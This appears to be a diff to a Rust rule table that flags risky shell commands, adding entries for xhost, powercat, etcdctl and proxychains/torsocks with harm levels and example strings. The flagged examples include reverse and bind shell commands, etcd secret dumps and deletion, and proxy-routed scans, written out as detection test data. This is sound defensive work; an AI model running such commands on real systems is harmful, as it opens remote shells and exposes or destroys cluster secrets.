@@ -890,13 +890,21 @@ pub const SECURITY: &[Program] = &[
     Program {
         names: &["xhost"],
         source: "man:xhost(1) (+ or +HOST lets other hosts open windows on and read this display); HackTricks xterm shell",
-        subs: &[Sub {
-            words: &["+"],
-            harm: SelfEscalation,
-            level: High,
-            reason: "lets any host connect to this X display (read keystrokes, open windows)",
-        }],
-        flagged: &["xhost +"],
+        subs: &[
+            Sub {
+                words: &["+"],
+                harm: SelfEscalation,
+                level: High,
+                reason: "lets any host connect to this X display (read keystrokes, open windows)",
+            },
+            Sub {
+                words: &["+*"],
+                harm: SelfEscalation,
+                level: Medium,
+                reason: "lets another host connect to this X display (read keystrokes, open windows)",
+            },
+        ],
+        flagged: &["xhost +", "xhost +10.0.0.7", "xhost +si:localuser:root"],
         clean: &["xhost"],
         ..P
     },
@@ -1077,6 +1085,68 @@ pub const SECURITY: &[Program] = &[
         }],
         flagged: &["twine upload dist/*"],
         clean: &["twine check dist/*"],
+        ..P
+    },
+    Program {
+        names: &["powercat"],
+        source: "https://github.com/besimorhino/powercat (netcat in PowerShell: -l listen, -c connect, -e/-ep run a program on the connection)",
+        subs: &[always(
+            Exfiltration,
+            High,
+            "opens a network connection that can carry a shell (powercat, netcat for PowerShell)",
+        )],
+        flagged: &["powercat -l -p 7002 -ep", "powercat -c 10.0.0.5 -p 443 -e cmd"],
+        ..P
+    },
+    Program {
+        names: &["etcdctl"],
+        source: "https://etcd.io/docs/v3.5/dev-guide/interacting_v3/ (get, snapshot save); https://kubernetes.io/docs/tasks/administer-cluster/configure-upgrade-etcd/ (Kubernetes keeps its secrets in etcd)",
+        value_opts: &["--endpoints", "--cacert", "--cert", "--key", "--user", "--password", "-w", "--write-out", "--command-timeout", "--dial-timeout"],
+        subs: &[
+            Sub {
+                words: &["get"],
+                harm: Credential,
+                level: High,
+                reason: "reads keys from etcd, where Kubernetes keeps every secret",
+            },
+            Sub {
+                words: &["snapshot", "save"],
+                harm: Credential,
+                level: High,
+                reason: "copies the whole etcd store, every Kubernetes secret in it",
+            },
+            Sub {
+                words: &["del"],
+                harm: Destructive,
+                level: High,
+                reason: "deletes keys from etcd, the cluster's state",
+            },
+            Sub {
+                words: &["put"],
+                harm: SelfEscalation,
+                level: High,
+                reason: "writes keys into etcd, the cluster's state, behind the API server",
+            },
+        ],
+        flagged: &[
+            "etcdctl --endpoints=http://10.0.0.2:2379 get / --prefix --keys-only",
+            "ETCDCTL_API=3 etcdctl snapshot save /tmp/etcd.db",
+            "etcdctl del /registry --prefix",
+        ],
+        clean: &["etcdctl member list", "etcdctl endpoint health", "etcdctl version"],
+        ..P
+    },
+    Program {
+        names: &["proxychains", "proxychains4", "torsocks", "torify"],
+        source: "https://github.com/rofl0r/proxychains-ng (runs a program with its connections sent through SOCKS/HTTP proxies); man:torsocks(1) (through Tor)",
+        exec: &[crate::Exec::Argv { skip: 0 }],
+        value_opts: &["-f", "-a", "-u", "-p", "-P", "-d"],
+        subs: &[always(
+            Exfiltration,
+            Medium,
+            "routes a program's connections through a proxy chain or Tor, around the network's egress controls",
+        )],
+        flagged: &["proxychains curl http://10.10.10.10", "torsocks ssh user@example.com", "proxychains4 -q nmap -sT 10.0.0.0/24"],
         ..P
     },
 ];
